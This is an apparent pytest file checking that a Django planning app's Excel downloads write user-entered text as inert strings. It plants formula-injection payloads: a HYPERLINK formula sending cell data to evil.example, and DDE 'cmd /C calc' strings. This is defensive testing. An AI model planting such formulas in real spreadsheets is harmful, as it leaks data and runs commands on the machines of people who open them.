"""Every Excel download writes what people typed as text: no formula a stranger planted runs."""

from __future__ import annotations

from io import BytesIO

import pytest
from openpyxl import load_workbook

from planwatch.web.plan.models import IndicatorRecord
from planwatch.web.projects.models import ProblemEventRecord, ProgressRecord, ProjectRecord
from planwatch.web.submissions.models import Submission
from tests.web.views.conftest import user

LEAK = '=HYPERLINK("http://evil.example/?leak="&B3,"点击查看")'


def cells(content: bytes) -> list[object]:
    book = load_workbook(BytesIO(content))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula"
                found.append(cell.value)
    return found


def planted_submission() -> str:
    Submission.objects.create(
        indicator=IndicatorRecord.objects.get(code="gdp_growth"),
        period="2025-Q3",
        year=2025,
        value=6.1,
        status="actual",
        department="区统计局",
        author=user("stats"),
        note=LEAK,
        review_comment="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    return "/submissions/?format=xlsx"


def planted_project_report() -> str:
    report = ProgressRecord.objects.order_by("id").first()
    ProgressRecord.objects.filter(pk=report.pk).update(narrative=LEAK)
    return f"/projects/{report.project.code}/?format=xlsx"


def planted_problem_step() -> str:
    event = ProblemEventRecord.objects.order_by("id").first()
    ProblemEventRecord.objects.filter(pk=event.pk).update(note=LEAK)
    return f"/problems/{event.problem.code}/?format=xlsx"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "plant", [planted_submission, planted_project_report, planted_problem_step]
)
def test_a_planted_formula_is_downloaded_as_inert_text(office, plant):
    response = office.get(plant())
    assert response.status_code == 200
    assert "'" + LEAK in cells(response.content)


@pytest.mark.django_db
def test_the_projects_workbook_export_writes_a_planted_unit_as_text(tmp_path):
    from planwatch.services.project_register import export_workbook

    project = ProjectRecord.objects.order_by("id").first()
    ProjectRecord.objects.filter(pk=project.pk).update(unit="-1+1|' /C calc'!A0")
    path = tmp_path / "projects.xlsx"
    export_workbook(path, project.year)
    assert "'-1+1|' /C calc'!A0" in cells(path.read_bytes())


@pytest.mark.django_db
def test_an_indicator_named_with_a_slash_exports_its_page_and_comparison(office):
    IndicatorRecord.objects.filter(code="gdp_growth").update(name="地区生产总值/增速[当年]")
    for path in (
        "/indicators/gdp_growth/?format=xlsx",
        "/compare/?indicator=gdp_growth&format=xlsx",
    ):
        response = office.get(path)
        assert response.status_code == 200
        title = load_workbook(BytesIO(response.content)).active.title
        assert "/" not in title and "[" not in title and len(title) <= 31
        assert "/" not in response["Content-Disposition"].split("''")[-1].replace("%2F", "/")
